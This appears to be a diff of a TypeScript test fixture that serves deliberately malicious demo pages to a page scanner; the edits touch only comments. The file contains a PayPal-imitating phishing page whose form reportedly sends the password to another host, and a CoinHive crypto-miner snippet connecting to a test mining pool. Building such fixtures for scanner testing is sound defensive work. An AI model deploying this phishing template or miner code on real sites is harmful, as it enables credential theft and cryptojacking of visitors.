@@ -1,10 +1,10 @@
-/** Pages that nobody should trust, for the demo of the scanner `page`. Nothing that they name is anybody's. */
+/** Malicious pages, for the demo of the scanner `page`. All names in them are reserved for tests. */
 import { createServer } from 'node:http';
 import type { Zone } from './dns-server.ts';
 import { listen } from './listen.ts';
 
 export interface RiskySite {
-  /** addresses of its pages */
+  /** URLs of its pages */
   urls: readonly string[];
   close(): Promise<void>;
 }
@@ -17,7 +17,7 @@ export const riskyZone = (address = '127.0.0.1'): Zone => ({
   [PLAYER]: { A: [address] },
 });
 
-/** A log-in that is not what it says, and that sends what it is told to somebody else. */
+/** A phishing page, whose form sends the password to another host. */
 const LOG_IN_PAGE = `<!doctype html>
 <html lang="en"><head><meta charset="utf-8"><title>PayPal: verify your account</title>
 <script>document.addEventListener('contextmenu', function (event) { event.preventDefault() })</script>
@@ -34,7 +34,7 @@ const LOG_IN_PAGE = `<!doctype html>
 <a href="#">Help</a> <a href="#">Contact</a> <a href="#">Security</a>
 </body></html>`;
 
-/** What a script of its second layer would do: mine for somebody else, with what the visitor pays for. */
+/** A crypto miner, which the page decodes and runs. */
 const MINER = `var miner=new CoinHive.Anonymous('DEMO-SITE-KEY',{throttle:0.2});miner.start();
 var pool=new WebSocket('wss://pool.demo-mining.test:443');pool.onopen=function(){pool.send(JSON.stringify({method:'mining.subscribe',algo:'cryptonight'}))};`;
 
